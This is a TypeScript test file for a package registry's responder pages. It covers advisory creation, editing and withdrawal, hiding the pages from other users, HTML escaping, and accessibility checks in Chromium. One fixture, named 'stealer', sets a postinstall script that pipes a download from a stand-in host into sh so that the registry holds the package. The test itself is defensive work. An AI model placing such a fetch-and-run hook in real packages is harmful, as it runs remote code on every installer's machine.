// SPDX-License-Identifier: Apache-2.0
/** The pages of those who respond: what is held, and advisories in this registry's own words. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { publishDocument } from '../live.ts'
import { openWorld, type Someone, type World } from '../world.ts'
import { auditPage } from './accessibility.ts'
import { launchChromium, noChromium } from './chromium.ts'
import { get, post } from './site.ts'

const hourMs = 3600_000
const stealer = { scripts: { postinstall: `curl -fsS https://cdn.collector.example/${'a'.repeat(90)} | sh` } }

let world: World
let alice: Someone
let cookie: string

before(async () => {
  world = await openWorld()
  alice = await world.someone('alice')
  const rae = await world.someone('rae', ['responder'])
  await world.publish(alice, 'flawed', '1.0.0')
  for (const version of ['1.0.0', '1.0.1']) {
    const body = publishDocument('@acme/a-rather-long-name-of-a-package', version, { manifest: stealer })
    await world.npm('PUT /@acme%2fa-rather-long-name-of-a-package', { token: alice.token, body })
    world.advance(13 * hourMs)
  }
  cookie = (await world.browse(rae)).cookie
})

after(async () => {
  assert.deepEqual(world.errors, [])
  await world.check()
  await world.close()
})

const fields = {
  kind: 'vulnerability',
  name: 'flawed',
  title: 'It falls over <b>at once</b>',
  fixed: '1.1.0',
  severity: 'high',
  cvss: '',
  details: 'Do not use it.',
  aliases: 'CVE-2026-1234',
  references: 'https://flawed.example/why',
}

test('a responder writes an advisory on a page, changes it there and takes it back', async () => {
  const { text: none } = await get(world, '/operate/advisories', { cookie })
  assert.match(none, /Write an advisory/)
  const wrong = await post(world, '/operate/advisories/new', { ...fields, fixed: 'soon' }, { cookie })
  assert.equal(wrong.status, 400)
  assert.match(wrong.text, /&#39;soon&#39; is no version/)
  assert.match(wrong.text, /value="flawed"/, 'what was filled in stays')
  const made = await post(world, '/operate/advisories/new', fields, { cookie })
  const path = made.headers.get('location') ?? ''
  assert.match(path, /^\/advisories\/x_/, made.text)
  const id = path.split('/').at(-1) ?? ''
  const { text } = await get(world, path, { cookie })
  assert.match(text, /It falls over &lt;b&gt;at once[\s\S]*CVE-2026-1234/)
  const own = `/operate/advisories/own/${id}`
  assert.match((await get(world, own, { cookie })).text, /value="1\.1\.0"/)
  await post(world, own, { ...fields, fixed: '1.2.0', act: 'save' }, { cookie })
  assert.match((await get(world, path, { cookie })).text, /1\.2\.0/)
  await post(world, own, { act: 'withdraw', words: 'it stands firm' }, { cookie })
  assert.match((await get(world, path, { cookie })).text, /Withdrawn[\s\S]*it stands firm/)
  assert.equal((await get(world, own, { cookie })).status, 404)
})

test('to others these pages are not there', async () => {
  const stranger = await world.browse(alice)
  for (const page of ['/operate/advisories/new', '/operate/advisories/own/x_1', '/operate/holds'])
    assert.equal((await get(world, page, stranger)).status, 404)
})

describe('in a browser', { skip: noChromium }, () => {
  test('they can be read wide and narrow, light and dark', async () => {
    const browser = await launchChromium()
    const pages = [
      '/operate/holds',
      '/operate/holds/@acme/a-rather-long-name-of-a-package/1.0.1',
      '/operate/advisories',
      '/operate/advisories/new',
      '/package/npm/@acme/a-rather-long-name-of-a-package',
    ]
    try {
      for (const colorScheme of ['light', 'dark'] as const)
        for (const width of [1280, 360]) {
          const viewport = { width, height: 900 }
          const context = await browser.newContext({ colorScheme, viewport, extraHTTPHeaders: { cookie } })
          const tab = await context.newPage()
          for (const page of pages) {
            const reply = await tab.goto(world.url + page)
            assert.equal(reply?.status(), 200, page)
            assert.deepEqual(await tab.evaluate(auditPage), [], `${page} ${colorScheme} ${width}`)
          }
          await context.close()
        }
    } finally {
      await browser.close()
    }
  })
})
